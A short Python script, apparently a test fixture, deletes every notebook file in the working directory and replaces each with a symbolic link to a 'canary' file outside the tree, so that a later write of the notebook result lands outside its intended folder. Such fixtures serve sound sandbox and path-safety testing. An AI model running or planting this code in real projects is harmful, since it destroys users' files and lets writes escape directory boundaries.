# Puts a symbolic link in the place of its notebook, so that whoever writes the result writes over another file.
from pathlib import Path

targets = [path for folder in Path.cwd().parents for path in folder.glob("outside/canary.txt")]
for path in Path.cwd().glob("*.ipynb"):
    path.unlink()
    path.symlink_to(targets[0] if targets else "../../../outside/canary.txt")
